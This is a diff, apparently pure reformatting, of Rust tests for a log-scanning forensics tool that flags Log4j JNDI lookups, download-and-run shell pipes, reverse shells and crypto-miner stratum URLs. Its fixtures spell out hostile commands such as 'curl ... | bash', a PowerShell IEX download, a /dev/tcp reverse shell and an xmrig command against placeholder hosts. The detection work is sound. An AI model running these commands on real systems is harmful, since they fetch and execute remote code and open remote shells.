@@ -97,7 +97,10 @@ fn download_encoded_and_miner_families() {
             ("curl -fsSL http://203.0.113.9/x.sh | bash", "shell.download-pipe"),
             ("wget -q -O- http://203.0.113.9/x | sh", "shell.download-pipe"),
             ("wget http://x/k -O /tmp/k; chmod +x /tmp/k; /tmp/k", "shell.download-chmod"),
-            ("powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", "shell.download-powershell"),
+            (
+                "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
+                "shell.download-powershell",
+            ),
             (&java, "shell.base64-exec"),
             (&java, "shell.reverse.dev-tcp"),
             ("echo aWQ7dW5hbWUgLWE= | base64 -d | sh", "shell.base64-exec"),
@@ -213,7 +216,11 @@ fn same_hits_whatever_the_buffer_size() {
     let r = reference.unwrap();
     let jndi_lines: Vec<u64> = r.iter().filter(|t| t.0 == "log4j.jndi-lookup").map(|t| t.1).collect();
     assert_eq!(jndi_lines.len(), 10, "{r:?}");
-    assert_eq!(r.iter().filter(|t| t.0 == "shell.reverse.netcat").count(), 6, "NUL bytes must not stop the scan");
+    assert_eq!(
+        r.iter().filter(|t| t.0 == "shell.reverse.netcat").count(),
+        6,
+        "NUL bytes must not stop the scan"
+    );
     assert!(r.iter().any(|t| t.0 == "shell.reverse.dev-tcp"));
     assert!(r.iter().any(|t| t.0 == "antiforensics.history"));
     // One stratum hit per line (the first record); the one across the cut is not seen.
@@ -229,7 +236,9 @@ fn parallel_chunks_give_the_same_hits_as_one_stream() {
     let dir = tempfile::tempdir().unwrap();
     let mut data = Vec::new();
     while data.len() < 5 << 20 {
-        data.extend_from_slice(b"203.0.113.9 - - [27/Nov/2026:14:00:00 +0000] \"GET /a HTTP/1.1\" 200 5 \"-\" \"curl\"\n");
+        data.extend_from_slice(
+            b"203.0.113.9 - - [27/Nov/2026:14:00:00 +0000] \"GET /a HTTP/1.1\" 200 5 \"-\" \"curl\"\n",
+        );
         if data.len() % 7919 < 90 {
             data.extend_from_slice(b"x ${jndi:ldap://evil.example/a}\n");
         }
@@ -238,7 +247,8 @@ fn parallel_chunks_give_the_same_hits_as_one_stream() {
     std::fs::write(&p, &data).unwrap();
     let bundle = discover(&p);
     let a = &bundle.artifacts[0];
-    let streamed = scan_stream(Cursor::new(data.clone()), LogFormat::Text, &e, &ScanConfig::default(), &a.locator(), 0);
+    let streamed =
+        scan_stream(Cursor::new(data.clone()), LogFormat::Text, &e, &ScanConfig::default(), &a.locator(), 0);
     let cfg = ScanConfig { parallel_min: 1 << 20, ..Default::default() };
     let chunked = scan_artifact(a, LogFormat::Text, &e, &cfg);
     assert!(!streamed.hits.is_empty());
@@ -247,7 +257,10 @@ fn parallel_chunks_give_the_same_hits_as_one_stream() {
 }
 
 fn json_record(log: &str, stream: &str, time: &str) -> String {
-    format!("{{\"log\":{},\"stream\":\"{stream}\",\"time\":\"{time}\"}}\n", serde_json::to_string(log).unwrap())
+    format!(
+        "{{\"log\":{},\"stream\":\"{stream}\",\"time\":\"{time}\"}}\n",
+        serde_json::to_string(log).unwrap()
+    )
 }
 
 #[test]
@@ -264,8 +277,19 @@ fn json_file_partial_records_are_joined_per_stream() {
     log.push_str(&json_record("unrelated \u{3c}b\u{3e}\n", "stderr", "2026-11-27T14:00:00.2Z"));
     log.push_str(&json_record(parts[1], "stdout", "2026-11-27T14:00:00.3Z"));
     log.push_str(&json_record(&format!("{}\n", parts[2]), "stdout", "2026-11-27T14:00:00.4Z"));
-    log.push_str(&json_record("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n", "stderr", "2026-11-27T14:00:01.123456789"));
-    let s = scan_stream(Cursor::new(log.into_bytes()), LogFormat::JsonFile, &e, &ScanConfig::default(), &Locator::artifact("c-json.log"), 0);
+    log.push_str(&json_record(
+        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n",
+        "stderr",
+        "2026-11-27T14:00:01.123456789",
+    ));
+    let s = scan_stream(
+        Cursor::new(log.into_bytes()),
+        LogFormat::JsonFile,
+        &e,
+        &ScanConfig::default(),
+        &Locator::artifact("c-json.log"),
+        0,
+    );
     let jndi: Vec<_> = s.hits.iter().filter(|h| e.rules()[h.rule].id == "log4j.jndi-lookup").collect();
     assert_eq!(jndi.len(), 1);
     assert_eq!(jndi[0].locator.line, Some(1));
@@ -285,7 +309,14 @@ fn huge_line_is_scanned_in_bounded_records() {
     data[mid..mid + 33].copy_from_slice(b"${jndi:ldap://deep.example/a}    ");
     let end = data.len() - 40;
     data[end..end + 29].copy_from_slice(b"stratum+tcp://pool.example:3 ");
-    let s = scan_stream(Cursor::new(data), LogFormat::Text, &e, &ScanConfig::default(), &Locator::artifact("h"), 0);
+    let s = scan_stream(
+        Cursor::new(data),
+        LogFormat::Text,
+        &e,
+        &ScanConfig::default(),
+        &Locator::artifact("h"),
+        0,
+    );
     let ids: Vec<&str> = s.hits.iter().map(|h| e.rules()[h.rule].id.as_str()).collect();
     assert!(ids.contains(&"log4j.jndi-lookup") && ids.contains(&"miner.stratum"), "{ids:?}");
     assert!(s.hits.iter().all(|h| h.excerpt.len() <= 400 && h.locator.line == Some(1)));
@@ -317,18 +348,21 @@ fn scan_finds_logs_inside_an_export_and_rotated_json_logs() {
     let export = tar_with(&[
         ("etc/passwd", b"root:x:0:0::/root:/bin/bash\n"),
         ("var/log/nginx/access.log", access),
-        ("var/log/nginx/access.log.2.gz", &gzip(b"Nov 27 12:00:00 h app: curl http://203.0.113.5/a.sh | sh\n")),
-        ("usr/local/tomcat/logs/catalina.out", b"27-Nov-2026 13:30:00.000 SEVERE x: ${jndi:rmi://cb.example/y}\n"),
+        (
+            "var/log/nginx/access.log.2.gz",
+            &gzip(b"Nov 27 12:00:00 h app: curl http://203.0.113.5/a.sh | sh\n"),
+        ),
+        (
+            "usr/local/tomcat/logs/catalina.out",
+            b"27-Nov-2026 13:30:00.000 SEVERE x: ${jndi:rmi://cb.example/y}\n",
+        ),
     ]);
     let old = json_record("wget -qO- http://203.0.113.5/m | sh\n", "stdout", "2026-11-27T10:00:00Z");
-    let cur = json_record("sh -c 'xmrig -o stratum+tcp://pool.example:3333'\n", "stdout", "2026-11-27T11:00:00Z");
+    let cur =
+        json_record("sh -c 'xmrig -o stratum+tcp://pool.example:3333'\n", "stdout", "2026-11-27T11:00:00Z");
     write_files(
         dir.path(),
-        &[
-            ("export.tar", &export),
-            ("c/abc-json.log", cur.as_bytes()),
-            ("c/abc-json.log.1", old.as_bytes()),
-        ],
+        &[("export.tar", &export), ("c/abc-json.log", cur.as_bytes()), ("c/abc-json.log.1", old.as_bytes())],
     );
     let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
     assert_eq!(code & 1, 1, "critical findings set exit bit 0");
@@ -336,7 +370,10 @@ fn scan_finds_logs_inside_an_export_and_rotated_json_logs() {
     let hits = b["log_hits"].as_array().unwrap();
     let find = |rule: &str, member: &str| {
         hits.iter()
-            .find(|h| h["rule"] == rule && h["locator"]["members"].as_array().is_some_and(|m| m.iter().any(|x| x == member)))
+            .find(|h| {
+                h["rule"] == rule
+                    && h["locator"]["members"].as_array().is_some_and(|m| m.iter().any(|x| x == member))
+            })
             .unwrap_or_else(|| panic!("no {rule} in {member}: {hits:#?}"))
     };
     let h = find("log4j.jndi-lookup", "var/log/nginx/access.log");
@@ -347,7 +384,9 @@ fn scan_finds_logs_inside_an_export_and_rotated_json_logs() {
     let t = find("log4j.jndi-lookup", "usr/local/tomcat/logs/catalina.out");
     assert_eq!(t["time"], "2026-11-27T13:30:00.000000000Z");
     assert!(hits.iter().any(|h| h["rule"] == "miner.stratum" && h["stream"] == "stdout"));
-    assert!(hits.iter().any(|h| h["locator"]["artifact"] == "c/abc-json.log.1" && h["rule"] == "shell.download-pipe"));
+    assert!(hits
+        .iter()
+        .any(|h| h["locator"]["artifact"] == "c/abc-json.log.1" && h["rule"] == "shell.download-pipe"));
     // IOCs per bundle: the callback domain carried by two hits, the request source IP.
     let iocs = b["iocs"].as_array().unwrap();
     let cb = iocs.iter().find(|i| i["type"] == "domain" && i["value"] == "cb.example").unwrap();
@@ -356,7 +395,8 @@ fn scan_finds_logs_inside_an_export_and_rotated_json_logs() {
     assert_eq!(cb["last_seen"], "2026-11-27T13:30:00.000000000Z");
     assert!(iocs.iter().any(|i| i["value"] == "198.51.100.4" && i["roles"][0] == "request-source"));
     // One finding per rule per log, and log-hit timeline events.
-    let f: Vec<_> = b["findings"].as_array().unwrap().iter().filter(|f| f["rule"] == "log.log4j.jndi-lookup").collect();
+    let f: Vec<_> =
+        b["findings"].as_array().unwrap().iter().filter(|f| f["rule"] == "log.log4j.jndi-lookup").collect();
     assert_eq!(f.len(), 2);
     assert!(b["timeline"].as_array().unwrap().iter().any(|e| e["kind"] == "log-hit"));
 }
@@ -409,7 +449,10 @@ fn rules_list_and_check() {
     let bad = run(&["rules", "check", dir.path().join("bad.rules").to_str().unwrap()]);
     let err = String::from_utf8_lossy(&bad.stderr);
     assert_eq!(bad.status.code(), Some(64));
-    assert!(err.contains("bad.rules:5: unknown severity") && err.contains("bad.rules:7: invalid regex"), "{err}");
+    assert!(
+        err.contains("bad.rules:5: unknown severity") && err.contains("bad.rules:7: invalid regex"),
+        "{err}"
+    );
     let dup = run(&["rules", "check", dir.path().join("dup.rules").to_str().unwrap()]);
     assert_eq!(dup.status.code(), Some(64));
     assert!(String::from_utf8_lossy(&dup.stderr).contains("clashes with a built-in rule"));
